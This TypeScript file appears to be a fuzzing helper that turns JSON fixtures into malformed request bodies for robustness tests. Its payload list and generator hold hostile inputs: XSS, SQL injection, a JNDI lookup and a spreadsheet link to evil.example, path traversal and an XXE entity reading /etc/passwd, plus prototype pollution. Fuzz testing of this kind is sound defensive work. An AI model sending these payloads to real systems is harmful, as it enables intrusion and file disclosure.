import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import type { Random } from "../flows/random.ts";
import { nearly, otherwise } from "./near-body.ts";

/** A body that nobody would send, and how it says that it is written. */
export type Mutant = { body: Uint8Array; type: string; object: Record<string, unknown> | null };

const NASTY: readonly unknown[] = [
  null,
  true,
  "",
  "\0",
  "a\0b",
  "\ud800",
  "\u202e\u001b[2J",
  "<script>alert(1)</script>",
  '=HYPERLINK("http://evil.example")',
  "' or 1=1 --",
  "${jndi:ldap://evil.example}",
  "../../etc/passwd",
  "9".repeat(10_000),
  "я".repeat(70_000),
  -1,
  0,
  1e308,
  -1e308,
  2 ** 53,
  1.5,
  [],
  {},
  [[[[[[[[[[]]]]]]]]]],
  { __proto__: { admin: true }, constructor: { prototype: 1 } },
];
const TYPES = [
  "application/json",
  "application/json",
  "application/json",
  "application/x-www-form-urlencoded",
  "text/plain",
  "application/xml",
  "multipart/form-data; boundary=x",
  "application/json; charset=utf-16",
  "",
];

/** Half of them nearly as they should be; else a sample that was changed, cut, wrapped or written in another way, or noise. */
export function mutantOf(samples: readonly unknown[], random: Random): Mutant {
  const sample = structuredClone(samples[random.below(samples.length)] ?? {});
  if (random.below(2) === 0) return near(sample, random);
  const draw = random.below(100);
  if (draw < 60) {
    let changed: unknown = sample;
    for (let times = 1 + random.below(3); times > 0; times -= 1) changed = hurt(changed, random);
    return written(changed, random);
  }
  if (draw < 70) return cut(sample, random);
  if (draw < 80) return raw(noise(random), random);
  if (draw < 85) return raw(Buffer.from(JSON.stringify(sample), "utf16le"), random);
  if (draw < 90) {
    const deep = random.below(2) === 0 ? "[" : '{"a":';
    return raw(Buffer.from(deep.repeat(1 + random.below(60_000))), random);
  }
  if (draw < 95)
    return raw(
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
      ),
      random,
    );
  return written(sample, random);
}

/** Every JSON below a folder of fixtures, or each hook of its sequences. */
export function samplesIn(folder: string): unknown[] {
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((file) => join(folder, file))
    .filter((file) => file.endsWith(".json") && statSync(file).size < 2_000_000);
  return files.flatMap((file) => {
    const value: unknown = JSON.parse(readFileSync(file, "utf8"));
    return Array.isArray(value) ? value.flatMap(bodiesOf) : [value];
  });
}

function bodiesOf(value: unknown): unknown[] {
  if (!isRecord(value)) return [];
  const { events } = value;
  if (!Array.isArray(events)) return [value];
  return events.filter(isRecord).map((event) => event["body"] ?? event);
}

function hurt(value: unknown, random: Random): unknown {
  const nasty = NASTY[random.below(NASTY.length)];
  if (Array.isArray(value) && value.length > 0 && random.below(4) > 0) {
    const at = random.below(value.length);
    return value.map((one: unknown, index) => (index === at ? hurt(one, random) : one));
  }
  if (isRecord(value) && random.below(8) > 0) {
    const names = Object.keys(value);
    const name = names[random.below(Math.max(names.length, 1))] ?? "event";
    const { [name]: inner, ...others } = value;
    const draw = random.below(4);
    if (draw === 0) return others;
    if (draw === 1)
      return { ...value, [typeof nasty === "string" ? nasty.slice(0, 300) : "x"]: nasty };
    return { ...others, [name]: draw === 2 ? hurt(inner, random) : nasty };
  }
  return nasty;
}

/** One thing is not as it should be, and how it is said to be written is true. */
function near(sample: unknown, random: Random): Mutant {
  const changed = nearly(sample, random);
  const object = isRecord(changed) ? changed : null;
  if (object !== null && random.below(3) === 0 && Object.values(object).every(isPlain)) {
    const type = "application/x-www-form-urlencoded";
    return { body: Buffer.from(formOf(object)), type, object };
  }
  return { body: Buffer.from(otherwise(changed, random)), type: "application/json", object };
}

function isPlain(value: unknown): boolean {
  return typeof value !== "object" || value === null;
}

function formOf(object: Record<string, unknown>): string {
  return Object.entries(object)
    .map(([name, one]) => `${safe(name)}=${safe(String(one))}`)
    .join("&");
}

function written(value: unknown, random: Random): Mutant {
  const type = TYPES[random.below(TYPES.length)] ?? "";
  const object = isRecord(value) ? value : null;
  if (type.includes("urlencoded") && object !== null) {
    return { body: Buffer.from(formOf(object)), type, object };
  }
  return { body: Buffer.from(JSON.stringify(value) ?? ""), type, object };
}

function safe(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}

function cut(sample: unknown, random: Random): Mutant {
  const text = JSON.stringify(sample);
  return raw(Buffer.from(text.slice(0, random.below(text.length))), random);
}

function raw(body: Uint8Array, random: Random): Mutant {
  return { body, type: TYPES[random.below(TYPES.length)] ?? "", object: null };
}

function noise(random: Random): Uint8Array {
  return Uint8Array.from({ length: random.below(4000) }, () => random.below(256));
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}
